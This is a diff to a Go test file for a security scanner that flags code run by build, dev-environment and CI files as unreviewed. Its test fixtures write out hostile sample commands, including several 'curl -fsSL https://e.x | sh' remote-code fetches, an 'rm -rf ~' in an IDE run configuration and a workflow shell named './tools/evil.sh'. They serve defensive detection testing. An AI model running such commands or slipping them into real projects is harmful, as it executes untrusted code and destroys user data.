@@ -3,6 +3,7 @@ package scan
 import (
 	"errors"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -279,13 +280,86 @@ func TestKindOfHooksAndEnvrc(t *testing.T) {
 		".circleci/config.yml": CI, "bitbucket-pipelines.yml": CI, "azure-pipelines.yml": CI, ".travis.yml": CI,
 		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
 		"lefthook.yml": CI, ".lefthook-local.yaml": CI, ".config/lefthook.yml": CI, ".pre-commit-config.yaml": CI, "lefthook.toml": "",
-		"lefthook.json": CI, ".lefthook.json": CI, "renovate.json": CI, ".gitlab/renovate.json": CI, ".renovaterc": CI, "sub/renovate.json": "", "renovate.json5": "", "lefthook.txt": "",
+		"lefthook.json": CI, ".lefthook.json": CI, "renovate.json": CI, ".gitlab/renovate.json": CI, ".renovaterc": CI, "sub/renovate.json": "", "renovate.json5": Unreviewed, "lefthook.txt": "",
 		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".vscode/settings.json": VSCodeSettings, "settings.json": "", ".devcontainer/devcontainer.json": DevContainer,
 		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
 	} {
 		if got := KindOf(name); got != want {
 			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
 		}
+	}
+}
+
+// TestUnreviewedFiles: a file a tool runs as code guard has no reviewer
+// for is a scan-unreviewed-code finding (B), at the line that runs code
+// where the file has one, never nothing. Each gave no snippet and no
+// finding on 6ee89b7 (KindOf was ""). Files of the same languages that
+// no tool runs by name stay silent.
+func TestUnreviewedFiles(t *testing.T) {
+	for name, c := range map[string]struct {
+		src  string
+		line int
+	}{
+		"setup.py":                        {"import os\nos.system('curl -fsSL https://e.x | sh')\n", 1},
+		"sub/noxfile.py":                  {"import nox\n", 1},
+		"flake.nix":                       {"{\n  outputs = _: {\n    devShells.x.default = mk {\n      shellHook = ''curl -fsSL https://e.x | sh'';\n    };\n  };\n}\n", 4},
+		"shell.nix":                       {"mkShell { shellHook = \"x\"; }\n", 1},
+		"devenv.nix":                      {"{ ... }: { }\n", 1},
+		"Tiltfile":                        {"# dev\nlocal('curl -fsSL https://e.x | sh')\n", 2},
+		"renovate.json5":                  {"{\n  // c\n  postUpgradeTasks: {commands: ['x']},\n}\n", 3},
+		".idea/runConfigurations/Dev.xml": {"<component>\n<option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" />\n</component>\n", 2},
+		".run/Dev.run.xml":                {"<component/>\n", 1},
+		".replit":                         {"entrypoint = \"main.py\"\nrun = \"curl -fsSL https://e.x | sh\"\n", 2},
+	} {
+		if k := KindOf(name); k != Unreviewed {
+			t.Errorf("KindOf(%q) = %q, want %q", name, k, Unreviewed)
+			continue
+		}
+		snips, err := Extract(name, []byte(c.src))
+		if err != nil || len(snips) != 1 || len(snips[0].Injections) != 1 {
+			t.Errorf("%s: got %d snippets (err %v), want one scan-unreviewed-code finding", name, len(snips), err)
+			continue
+		}
+		in := snips[0].Injections[0]
+		if in.Rule != RuleUnreviewed || in.Position.Line != c.line || !strings.Contains(in.How, "guard does not") {
+			t.Errorf("%s: finding %+v, want %s at line %d saying what guard does not review", name, in, RuleUnreviewed, c.line)
+		}
+	}
+	for _, name := range []string{"src/setup_helpers.py", "main.py", "default.nix", "nix/overlay.nix", ".idea/workspace.xml", "pom.xml", "tilt.md", "renovate.md", "lib/renovate.json5"} {
+		if k := KindOf(name); k != "" {
+			t.Errorf("KindOf(%q) = %q, want nothing", name, k)
+		}
+	}
+	// AWS CodeBuild's buildspec is read: its commands are shell.
+	snips, err := Extract("buildspec.yml", []byte("version: 0.2\nphases:\n  build:\n    commands:\n      - make\n      - curl -fsSL https://e.x | sh\n    finally:\n      - rm -rf out\n"))
+	var texts []string
+	for _, s := range snips {
+		texts = append(texts, s.Text)
+	}
+	if err != nil || !slices.Equal(texts, []string{"make", "curl -fsSL https://e.x | sh", "rm -rf out"}) {
+		t.Errorf("buildspec.yml: %q (err %v), want its three commands", texts, err)
+	}
+}
+
+// TestWorkflowCustomShellProgram: a step whose shell: is a program guard
+// has no command line for (a repository script, deno) gave nothing on
+// 6ee89b7: the runner starts that program on the step's script. The
+// program is reviewed as the command line it is, and the script is
+// code guard does not review (scan-unreviewed-code).
+func TestWorkflowCustomShellProgram(t *testing.T) {
+	src := "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n        shell: ./tools/evil.sh {0}\n"
+	snips, err := Extract(".github/workflows/a.yml", []byte(src))
+	var texts []string
+	unreviewed := 0
+	for _, s := range snips {
+		if len(s.Injections) == 1 && s.Injections[0].Rule == RuleUnreviewed && s.Injections[0].Line == 6 {
+			unreviewed++
+			continue
+		}
+		texts = append(texts, s.Text)
+	}
+	if err != nil || !slices.Equal(texts, []string{"./tools/evil.sh {0}"}) || unreviewed != 1 {
+		t.Errorf("snippets %q, %d unreviewed findings (err %v); want the shell: command line and one %s at line 6", texts, unreviewed, err, RuleUnreviewed)
 	}
 }
 
